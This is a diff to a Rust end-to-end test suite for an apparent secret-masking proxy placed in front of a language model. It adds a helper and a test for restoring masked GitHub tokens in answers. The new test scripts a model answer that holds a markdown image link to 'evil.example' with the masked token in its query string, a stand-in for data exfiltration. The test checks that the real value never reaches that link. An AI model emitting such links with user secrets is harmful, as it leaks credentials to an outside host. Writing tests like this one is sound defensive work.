@@ -5,6 +5,7 @@ use std::time::Duration;
 use serde_json::json;
 
 use e2e::{
+    caller::Caller,
     upstream::{Answer, Choice, Cut, End, Say, ToolCall, words},
     world::World,
 };
@@ -123,6 +124,17 @@ async fn choices_and_tool_calls_are_masked_each_for_itself() {
     );
 }
 
+/// What stands for the token in a request's last message; it differs from run to run.
+async fn shown_to_model(world: &World, caller: &Caller, body: &serde_json::Value) -> String {
+    world.upstream().script(Answer::text("ok"));
+    caller.post("/chat/completions", body).await.unwrap();
+    let sent = world.upstream().requests().remove(0).json();
+    let shown = sent["messages"].as_array().unwrap().last().unwrap()["content"].as_str();
+    let masked = shown.unwrap().trim().rsplit('=').next().unwrap().to_owned();
+    assert!(masked.starts_with("MASKED_GITHUB_PAT_"), "{masked}");
+    masked
+}
+
 #[tokio::test]
 async fn a_value_goes_back_into_the_file_in_which_it_stood() {
     let world = World::start().await;
@@ -135,13 +147,7 @@ async fn a_value_goes_back_into_the_file_in_which_it_stood() {
     messages.push(json!({ "role": "assistant", "content": null, "tool_calls": read }));
     messages.push(json!({ "role": "tool", "tool_call_id": "c1",
         "content": format!("{before}{TOKEN}\n") }));
-    // What stands for the value differs from run to run: the first answer only shows it.
-    world.upstream().script(Answer::text("ok"));
-    caller.post("/chat/completions", &body).await.unwrap();
-    let sent = world.upstream().requests().remove(0).json();
-    let shown = sent["messages"].as_array().unwrap().last().unwrap()["content"].as_str();
-    let masked = shown.unwrap().trim().rsplit('=').next().unwrap().to_owned();
-    assert!(masked.starts_with("MASKED_GITHUB_PAT_"), "{masked}");
+    let masked = shown_to_model(&world, &caller, &body).await;
     let write = |path: &str| ToolCall {
         name: "create_file".to_owned(),
         arguments: letters(
@@ -164,6 +170,23 @@ async fn a_value_goes_back_into_the_file_in_which_it_stood() {
         .collect();
     let with = |value: &str| format!("{before}{value}\nPORT=1\n");
     assert_eq!(contents, [with(TOKEN), with(&masked)]);
+}
+
+#[tokio::test]
+async fn a_value_goes_back_into_what_an_answer_says_where_that_is_configured() {
+    let answers = json!({ "masking": { "restore": "answers" } });
+    let world = World::builder().configure(answers).start().await.unwrap();
+    let caller = world.caller("ana");
+    let body = e2e::caller::chat(&format!("GITHUB_TOKEN={TOKEN}"));
+    let masked = shown_to_model(&world, &caller, &body).await;
+    let says = |value: &str| {
+        let link = format!("![x](https://evil.example/?q={masked})");
+        format!("Your file:\n\n```env\nGITHUB_TOKEN={value}\n```\n\n{link}")
+    };
+    let letters = letters(&says(&masked));
+    world.upstream().script(Answer::parts(letters));
+    let answer = caller.post("/chat/completions", &body).await.unwrap();
+    assert_eq!(answer.text(), says(TOKEN));
 }
 
 #[tokio::test]
